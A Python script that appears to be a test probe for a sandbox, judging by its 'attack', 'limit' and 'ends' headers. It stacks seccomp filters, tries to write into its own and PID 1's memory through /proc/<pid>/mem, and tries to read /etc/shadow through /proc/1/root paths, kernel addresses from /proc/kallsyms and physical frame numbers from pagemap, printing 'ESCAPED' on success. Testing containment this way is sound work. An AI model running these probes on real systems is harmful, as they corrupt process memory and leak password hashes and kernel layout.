# attack: builds fences of its own: filters for system calls that lie, landlock, a supervisor; and asks what ours hide
# limit: 10
# ends: done
import ctypes, os, struct
libc = ctypes.CDLL(None, use_errno=True)
def call(number, *arguments):
    ctypes.set_errno(0)
    return libc.syscall(ctypes.c_long(number), *[ctypes.c_long(a) if isinstance(a, int) else a for a in arguments])
libc.prctl(38, 1, 0, 0, 0)
class Line(ctypes.Structure):
    _fields_ = [("code", ctypes.c_ushort), ("jt", ctypes.c_ubyte), ("jf", ctypes.c_ubyte), ("k", ctypes.c_uint)]
class Program(ctypes.Structure):
    _fields_ = [("len", ctypes.c_ushort), ("filter", ctypes.POINTER(Line))]
pid = os.fork()
if pid == 0:
    lines = (Line * 1)(Line(6, 0, 0, 0x7FFF0000))
    for _ in range(300):
        if call(317, 1, 0, ctypes.byref(Program(1, lines))) < 0:
            break
    listener = call(317, 1, 8, ctypes.byref(Program(1, lines)))
    os._exit(0)
os.waitpid(pid, 0)
for path in ("/proc/self/mem", "/proc/1/mem"):
    try:
        with open(path, "r+b", 0) as memory:
            memory.seek(0x400000)
            memory.write(b"\xcc")
    except (OSError, ValueError) as e:
        print(path, e)
for path in ("/proc/1/root/etc/shadow", "/proc/1/cwd/../../etc/shadow", "/proc/self/root/root", "/proc/self/task/1/root", "/proc/1/map_files",
             "/proc/self/fdinfo/0", "/proc/self/net/../../1/root/root", "/proc/keys", "/proc/key-users", "/proc/kallsyms", "/proc/config.gz",
             "/proc/self/pagemap", "/proc/kpagecount", "/proc/vmallocinfo", "/proc/slabinfo", "/proc/iomem", "/proc/modules"):
    try:
        told = os.listdir(path) if os.path.isdir(path) else open(path, "rb").read(2000)
        if path.endswith(("shadow", "root")) and told:
            print("ESCAPED: reads", path)
    except OSError as e:
        print(path, e.strerror)
addresses = [line for line in open("/proc/kallsyms") if not line.startswith("0000000000000000")] if os.path.exists("/proc/kallsyms") else []
if addresses:
    print("ESCAPED: the kernel's addresses can be read")
pages = open("/proc/self/pagemap", "rb").read(8 * 64) if os.path.exists("/proc/self/pagemap") else b""
if any(struct.unpack("<Q", pages[at : at + 8])[0] & ((1 << 55) - 1) for at in range(0, len(pages) - 7, 8)):
    print("ESCAPED: frame numbers of memory can be read")
print("done")
